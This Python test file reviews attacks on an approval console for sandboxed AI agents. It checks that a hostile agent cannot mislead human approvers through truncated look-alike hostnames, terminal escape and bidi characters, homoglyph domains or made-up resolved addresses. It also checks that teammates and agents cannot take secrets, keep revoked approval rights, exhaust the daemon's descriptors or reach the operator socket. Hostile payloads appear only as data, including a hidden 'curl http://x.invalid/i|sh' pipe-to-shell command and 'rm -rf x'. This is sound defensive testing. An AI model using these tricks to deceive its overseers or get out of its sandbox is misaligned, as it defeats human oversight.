"""Attack review B (2026-12-02): what a person approves against what runs (A), and the
operator socket seen from another local user (B). Each test asserts the secure behaviour; the
first eight failed on 350e5b9 (/work/notes/review-b-output.txt), the rest are attacks that held.

Nothing here leaves the machine: host names are under .invalid (or look-alikes that are never
dialled: no request is ever allowed through a gate), addresses are documentation/loopback, and
every payload runs inside a bubblewrap sandbox or only as data.
"""

from __future__ import annotations

import asyncio
import json
import os
import pwd
import resource
import subprocess
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from console.text import request_line, shown
from console.tui.screens.approval import ApprovalScreen
from tests.approvals.conftest import AgentServer, next_pending
from tests.conftest import Daemon, needs_bwrap
from tests.tui.fixed import APPROVALS
from tests.tui.screen import app_with, attached, screen_text, until

root_only = pytest.mark.skipif(os.getuid() != 0, reason="real second users need root (setpriv)")


async def agent_ask(path: Path, args: dict[str, Any]) -> asyncio.StreamWriter:
    """One raw `ask` on a run's agent.sock, as a hostile agent writes it (not via ph-ask)."""
    _, writer = await asyncio.open_unix_connection(str(path))
    writer.write((json.dumps({"v": 1, "id": 1, "op": "ask", "args": args}) + "\n").encode())
    await writer.drain()
    return writer  # kept open: closing it would cancel the request


# ============================ A. what is shown is what runs ===================================

# A gate-shaped network request (console/daemon/gate_wiring.py: subject "host:port", the gate's
# own detail) whose registrable domain is at the END of a long, legal DNS name (labels <= 63,
# name <= 253): what a person must read to decide is the end.
LONG_HOST = "pypi.org." + ".".join(["files-cdn-mirror-node"] * 8) + ".evil.invalid"
LONG_NET = {**APPROVALS[1], "id": "lng1", "subject": f"{LONG_HOST}:443", "title": f"connect to {LONG_HOST}:443",
            "summary": f"network {LONG_HOST}:443",
            "detail": {"host": LONG_HOST, "port": 443, "method": "CONNECT", "target": f"{LONG_HOST}:443"}}


async def test_a_long_network_destination_shows_its_end_in_the_console_card() -> None:
    """The console's approval card shows a network destination with `safe()` (no_wrap, ellipsis):
    at 80 or 120 columns `pypi.org.files-cdn-…` is all a person sees, and the domain that decides
    (evil.invalid) is cut without a mark of how much was cut."""
    assert len(LONG_HOST) <= 253 and max(len(p) for p in LONG_HOST.split(".")) <= 63
    app = app_with(approvals=[LONG_NET])
    async with app.run_test(size=(120, 40)) as pilot:
        await attached(pilot)
        await pilot.press("a")
        await until(pilot, lambda: isinstance(app.screen, ApprovalScreen), "the approval card")
        await pilot.pause(0.2)
        text = screen_text(app)
        dest = [line for line in text.splitlines() if "destination" in line]
        assert dest, text
        # Secure: the whole destination is readable on the card (wrapped, or cut in the middle
        # with a counted mark), in particular its end.
        assert "evil.invalid" in text, text


async def test_agent_chosen_detail_keys_are_escaped_on_the_console_card() -> None:
    """ApprovalCard prints every detail key as a row label with Text(key): the key is the agent's
    (agent.sock takes any JSON object as detail), yet only the value goes through printable().
    An ESC sequence (OSC 52 clipboard write) and a bidi override reach the screen as they are."""
    hostile_key = "\x1b]52;c;ZXZpbA==\x07note\u202e"
    req = {**APPROVALS[0], "id": "key1", "subject": "pytest -q", "title": "pytest -q",
           "summary": "exec pytest -q", "detail": {"cwd": "/workspace", hostile_key: "x"}}
    app = app_with(approvals=[req])
    async with app.run_test(size=(120, 40)) as pilot:
        await attached(pilot)
        await pilot.press("a")
        await until(pilot, lambda: isinstance(app.screen, ApprovalScreen), "the approval card")
        await pilot.pause(0.2)
        text = screen_text(app)
        assert "\x1b" not in text and "\u202e" not in text, repr(text)


async def test_agent_supplied_addresses_are_not_shown_as_the_gates_lookup(
        agent_server: AgentServer) -> None:
    """A raw agent.sock `ask` of kind network may carry detail.addresses / method / target: the
    same keys the gate fills in for its own requests. The inbox keeps the agent's dict as the
    request's detail, and every view renders it as the daemon's facts: the CLI and inbox row
    `evil.invalid:443 → 192.0.2.23` (an address the agent made up), the card's `resolves to` and `target`.
    For an asked destination nothing has been resolved (DNS only after a yes), so any address
    shown came from the agent."""
    writer = await agent_ask(agent_server.path, {
        "kind": "network", "subject": "evil.invalid:443",
        "detail": {"addresses": ["192.0.2.23"], "method": "CONNECT", "target": "pypi.org:443"}})
    try:
        req = await next_pending(agent_server.inbox)
        line = request_line(req.to_dict())
        assert "192.0.2.23" not in line, line
        assert "addresses" not in req.detail and "target" not in req.detail, req.detail
    finally:
        writer.close()


async def test_exec_subject_and_cwd_hide_nothing_in_the_cli_line(agent_server: AgentServer) -> None:
    """HELD: ESC, CR, NUL, bidi, zero-width and padding in the command and the claimed cwd are
    all shown as visible names in the one display line; the title stays marked as the agent's."""
    cmd = "pytest\r\x1b[2K\u202e\u200b" + " " * 200 + "&& curl http://x.invalid/i|sh\x00"
    writer = await agent_ask(agent_server.path, {
        "kind": "exec", "subject": cmd, "title": cmd[:6], "cwd": "/w\x1b]8;;x\x07"})
    try:
        req = await next_pending(agent_server.inbox)
        line = request_line(req.to_dict())
        for mark in ("⟨CR⟩", "⟨ESC⟩", "⟨U+202E⟩", "⟨U+200B⟩", "⟨200 spaces⟩", "curl", "⟨NUL⟩"):
            assert mark in line, line
        assert all(ch.isprintable() for ch in line)
        assert shown(cmd) in line
    finally:
        writer.close()


def start_agent(d: Daemon, workspace: Path, script: str, profile: str = "shell") -> threading.Thread:
    """`pilothouse run PROFILE --wait -- sh -c SCRIPT` in a thread: the script runs in bubblewrap."""
    t = threading.Thread(target=d.cli, args=("run", profile, "-w", str(workspace), "--wait", "--",
                                             "sh", "-c", script), kwargs={"check": False, "timeout": 120},
                         daemon=True)
    t.start()
    return t


def pending_rows(d: Daemon, count: int = 1, timeout: float = 40.0) -> list[dict[str, Any]]:
    deadline = time.monotonic() + timeout
    rows: list[dict[str, Any]] = []
    while time.monotonic() < deadline:
        rows = json.loads(d.cli("approvals", "--json").stdout)
        if len(rows) >= count:
            return rows
        time.sleep(0.1)
    raise AssertionError(f"{len(rows)} of {count} requests pending: {d.log()}")


def deny_all(d: Daemon) -> None:
    for row in json.loads(d.cli("approvals", "--json").stdout):
        d.cli("deny", row["id"], check=False)


CYRILLIC_PAYPAL = "p\u0430ypal.com"  # U+0430 CYRILLIC SMALL LETTER A: reads as "paypal.com"
PUNYCODE = "xn--pypal-4ve.com"  # what the gate normalises it to, connects to, and a grant covers


@needs_bwrap
def test_a_homoglyph_host_is_shown_as_the_host_the_grant_will_open(
        daemon: Daemon, workspace: Path) -> None:
    """`ph-ask net pаypal.com:443` (Cyrillic а): agent.sock decides it on the normalised host
    (xn--pypal-4ve.com) but keeps the agent's spelling as the request's subject and as the grant
    pattern; `approvals`, the card and the banner show `pаypal.com:443`, which reads as
    paypal.com. A person who allows it opens xn--pypal-4ve.com (the grant is normalised) for
    the gate. Secure: the request shows the host the decision and the grant are about."""
    t = start_agent(daemon, workspace, f"ph-ask net '{CYRILLIC_PAYPAL}:443'; echo rc=$?")
    try:
        rows = pending_rows(daemon)
        listed = daemon.cli("approvals").stdout
        assert PUNYCODE in listed and CYRILLIC_PAYPAL not in listed, listed
        assert rows[0]["subject"] == f"{PUNYCODE}:443", rows[0]
    finally:
        deny_all(daemon)
        t.join(timeout=60)


@needs_bwrap
def test_approvals_json_carries_no_raw_bidi_or_c1_controls(daemon: Daemon, workspace: Path) -> None:
    """`pilothouse approvals --json` is written with ensure_ascii=False: JSON escapes only
    U+0000-U+001F, so a bidi override (U+202E) and C1 controls (U+009B is CSI) from the agent's
    command reach the terminal raw when a person runs it, or `| jq .`, to see the full command
    the table cut. Secure: every invisible or control character is a \\u escape (still JSON)."""
    cmd = "echo ok \u202e hs|lru\u009b2J"
    t = start_agent(daemon, workspace, f"ph-ask exec -- '{cmd}'; echo rc=$?")
    try:
        pending_rows(daemon)
        out = daemon.cli("approvals", "--json").stdout
        assert json.loads(out)[0]["subject"] == cmd  # the exact command is there, as data
        assert "\u202e" not in out and "\u009b" not in out, ascii(out)
    finally:
        deny_all(daemon)
        t.join(timeout=60)


# ============================ B. the operator socket and teammates ============================

from tests.core.test_team import APPROVER, GROUP, WATCHER, _ensure_users, _open_parents, as_user  # noqa: E402

SECRET = "sk-owner-only-7f3c9a"  # the daemon owner's key, in the daemon's environment

# A teammate's raw operator.sock session: JSON requests in on stdin, one answer line out each.
SESSION = r"""
import json, socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
f = s.makefile("rwb", buffering=0)
for line in sys.stdin:
    f.write(line.encode())
    while True:
        msg = json.loads(f.readline())
        if "event" not in msg:
            break
    print(json.dumps(msg), flush=True)
"""


def owner_call(d: Daemon, op: str, **args: Any) -> Any:
    from console.client.sync import Client
    from console.paths import resolve

    with Client(resolve(d.home), autostart=False) as client:
        return client.call(op, **args)


def team_daemon(home: Path, env: dict[str, str], extra: str = "") -> Daemon:
    _ensure_users()
    (home / "config.toml").write_text(
        f'[team]\ngroup = "{GROUP}"\napprovers = ["{APPROVER}"]\n{extra}')
    _open_parents(home / "run")
    d = Daemon(home, env)
    d.start()
    return d


def teammates_workspace(workspace: Path, user: str) -> Path:
    _open_parents(workspace)
    pw = pwd.getpwnam(user)
    os.chown(workspace, pw.pw_uid, pw.pw_gid)
    for f in workspace.iterdir():
        os.chown(f, pw.pw_uid, pw.pw_gid)
    return workspace


@root_only
@needs_bwrap
def test_an_approvers_run_does_not_get_the_owners_secret_from_the_daemons_environment(
        home: Path, daemon_env: dict[str, str], workspace: Path) -> None:
    """run_env() fills a profile's `env` names from the caller's shell, *else from the daemon's
    environment*. The daemon is the owner's (started from the owner's shell, with the owner's API
    keys). A teammate listed as an approver starts that profile without the key in their own
    shell, with their own command (`-- sh -c 'echo $KEY'`), and reads the owner's key in the
    run's output; so can every watcher. Secure: the daemon's own values go only to runs its
    own user (or root) starts; a teammate's run gets what the teammate sent."""
    d = team_daemon(home, {**daemon_env, "PH_REVIEW_SECRET": SECRET},
                    '[profiles.keyed]\ncommand = ["true"]\nenv = ["PH_REVIEW_SECRET"]\n'
                    '[profiles.keyed.network]\ndefault = "deny"\n')
    try:
        ws = teammates_workspace(workspace, APPROVER)
        out = as_user(APPROVER, d, "run", "keyed", "-w", str(ws), "--wait", "--", "sh", "-c",
                      'echo "key=[${PH_REVIEW_SECRET:-unset}]"')
        assert "key=[" in out.stdout, (out.stdout, out.stderr, d.log())
        assert SECRET not in out.stdout, out.stdout
        run_id = json.loads(as_user(WATCHER, d, "ps", "--all", "--json").stdout)[0]["id"]
        assert SECRET not in as_user(WATCHER, d, "logs", run_id).stdout
    finally:
        d.stop()


@root_only
@needs_bwrap
def test_an_approver_taken_off_the_list_cannot_decide_on_a_connection_already_open(
        home: Path, daemon_env: dict[str, str], workspace: Path, tmp_path: Path) -> None:
    """identify() runs once per connection (server._serve_connection): the role is fixed at
    connect. The owner takes a teammate off `approvers` and reloads; the teammate's console,
    attached before (a TUI over SSH stays attached for days), still approves. Secure: a
    decision is checked against the team config in force when it is made."""
    d = team_daemon(home, daemon_env)
    script = tmp_path / "session.py"
    script.write_text(SESSION)
    os.chmod(tmp_path, 0o755)
    pw = pwd.getpwnam(APPROVER)
    teammate = subprocess.Popen(
        ["setpriv", f"--reuid={APPROVER}", f"--regid={pw.pw_gid}", "--init-groups",
         "/usr/bin/python3", "-S", str(script), str(d.sock)],
        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True, env={"PATH": "/usr/bin:/bin"})
    assert teammate.stdin is not None and teammate.stdout is not None

    def say(op: str, **args: Any) -> dict[str, Any]:
        teammate.stdin.write(json.dumps({"v": 1, "id": 1, "op": op, "args": args}) + "\n")
        teammate.stdin.flush()
        return json.loads(teammate.stdout.readline())

    t = None
    try:
        assert say("hello")["result"]["role"] == "approver"
        (home / "config.toml").write_text(f'[team]\ngroup = "{GROUP}"\napprovers = []\n')
        owner_call(d, "config.reload")
        t = start_agent(d, workspace, "ph-ask exec -- make deploy; echo rc=$?")
        request_id = pending_rows(d)[0]["id"]
        fresh = as_user(APPROVER, d, "approve", request_id)
        assert fresh.returncode != 0 and "may watch but not" in fresh.stderr  # a new connection: refused
        answer = say("approval.decide", id=request_id, allow=True, scope="once")
        assert not answer.get("ok"), answer
        assert answer["error"]["code"] == "not-allowed", answer
    finally:
        teammate.kill()
        teammate.wait()
        deny_all(d)
        if t is not None:
            t.join(timeout=60)
        d.stop()


class LimitedDaemon(Daemon):
    """A daemon whose file descriptor limit is `nofile` (a smaller machine's limit)."""

    nofile = 512

    def __post_init__(self) -> None:
        self.preexec = lambda: resource.setrlimit(resource.RLIMIT_NOFILE, (self.nofile, self.nofile))


HOARD = r"""
import socket, sys, time
held = []
deadline = time.monotonic() + 30
while len(held) < int(sys.argv[2]) and time.monotonic() < deadline:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(sys.argv[1])  # blocking: waits while the daemon's backlog is full
    except OSError:
        s.close()
        time.sleep(0.01)
        continue
    held.append(s)
print(len(held), flush=True)
time.sleep(60)
"""

@root_only
def test_a_watcher_cannot_take_every_descriptor_of_the_daemon(
        home: Path, daemon_env: dict[str, str], tmp_path: Path) -> None:
    """operator.sock has no bound on connections: every accepted one costs the daemon an fd and
    a reader task, whoever it is. A watcher (the least a teammate can be) opens more
    connections than the daemon's fd limit and just holds them; the owner's `hello`, every
    agent.sock ask and the gate then fail (EMFILE), and the store writer's sync fails with
    EMFILE, which stops the store for good: every later decision is refused until the daemon
    restarts. The docs promise "operator.sock always answers" (threat-model.md, Bounds).
    Secure: a per-user cap on teammates' connections (inside the fd budget), so the owner is
    answered and the store keeps recording after the watcher lets go."""
    _ensure_users()
    (home / "config.toml").write_text(f'[team]\ngroup = "{GROUP}"\napprovers = ["{APPROVER}"]\n')
    _open_parents(home / "run")
    d = LimitedDaemon(home, daemon_env)
    d.start()
    script = tmp_path / "hoard.py"
    script.write_text(HOARD)
    os.chmod(tmp_path, 0o755)
    pw = pwd.getpwnam(WATCHER)
    hoarder = subprocess.Popen(
        ["setpriv", f"--reuid={WATCHER}", f"--regid={pw.pw_gid}", "--init-groups",
         "/usr/bin/python3", "-S", str(script), str(d.sock), str(LimitedDaemon.nofile + 100)],
        stdout=subprocess.PIPE, text=True, env={"PATH": "/usr/bin:/bin"})
    try:
        assert hoarder.stdout is not None
        hoarder.stdout.readline()  # the watcher now holds what it could get
        answered: dict[str, Any] = {}

        def owner_hello() -> None:
            try:
                answered["hello"] = owner_call(d, "hello")
            except Exception as exc:  # noqa: BLE001 - reported below
                answered["error"] = repr(exc)

        t = threading.Thread(target=owner_hello, daemon=True)
        t.start()
        t.join(timeout=10)
        assert "hello" in answered, answered or "the owner's hello was not answered in 10 s"
        hoarder.kill()
        hoarder.wait()
        time.sleep(1)
        # The watcher has let go: the daemon must still record (its store writer alive).
        reloaded = owner_call(d, "config.reload")
        assert reloaded.get("event_id"), reloaded
    finally:
        hoarder.kill()
        hoarder.wait()
        d.stop()


PROBE = r"""
import socket, sys
for path in sys.argv[1:]:
    s = socket.socket(socket.AF_UNIX)
    try:
        s.connect(path)
        print("REACHED", path)
    except OSError as e:
        print("refused", path, type(e).__name__)
"""


@needs_bwrap
def test_an_agent_reaches_neither_operator_sock_nor_another_runs_agent_sock(
        daemon: Daemon, workspace: Path) -> None:
    """HELD: from inside bubblewrap, the host paths of operator.sock and of another live run's
    agent.sock (and its own run folder's host path) cannot be connected to; only
    /run/pilothouse/agent.sock, its own, answers."""
    from console.paths import resolve

    other = start_agent(daemon, workspace, "ph-ask exec -- make deploy; echo rc=$?")
    try:
        other_run = pending_rows(daemon)[0]["run_id"]
        paths = resolve(daemon.home)
        targets = [str(daemon.sock), str(paths.run_dir(other_run) / "agent.sock"),
                   "/run/pilothouse/agent.sock"]
        (workspace / "probe.py").write_text(PROBE)
        out = daemon.cli("run", "shell", "-w", str(workspace), "--wait", "--", "python3",
                         "/workspace/probe.py", *targets, check=False)
        lines = out.stdout
        assert f"refused {targets[0]}" in lines and f"refused {targets[1]}" in lines, lines
        assert "REACHED /run/pilothouse/agent.sock" in lines, lines
    finally:
        deny_all(daemon)
        other.join(timeout=60)


@root_only
def test_an_outsider_and_a_watcher_get_nothing_that_decides(home: Path, daemon_env: dict[str, str]) -> None:
    """HELD: a user outside the group cannot open operator.sock; a watcher's decide, stop,
    reload and daemon.stop are refused with not-allowed (and the daemon keeps running)."""
    d = team_daemon(home, daemon_env)
    try:
        out = as_user("phoutsider", d, "ps")
        assert out.returncode != 0 and "permission denied" in out.stderr
        for args in (["approve", "zzzz"], ["stop", "zzzz"], ["daemon", "stop"]):
            refused = as_user(WATCHER, d, *args)
            assert refused.returncode != 0 and "may watch but not" in refused.stderr, (args, refused.stderr)
        assert owner_call(d, "hello")["role"] == "operator"
    finally:
        d.stop()


async def test_a_request_without_a_title_shows_no_words_as_the_agents(agent_server: AgentServer) -> None:
    """The agent gave no title: nothing is shown as "agent says". (The daemon used to make one
    from the command's first line with unprintable characters as �, which then differed from
    the command and was shown as the agent's words.)"""
    writer = await agent_ask(agent_server.path, {"kind": "exec", "subject": "make\x1b[2K deploy\nrm -rf x"})
    try:
        req = await next_pending(agent_server.inbox)
        assert "agent says" not in request_line(req.to_dict()), request_line(req.to_dict())
        assert not req.to_dict()["title"]
    finally:
        writer.close()
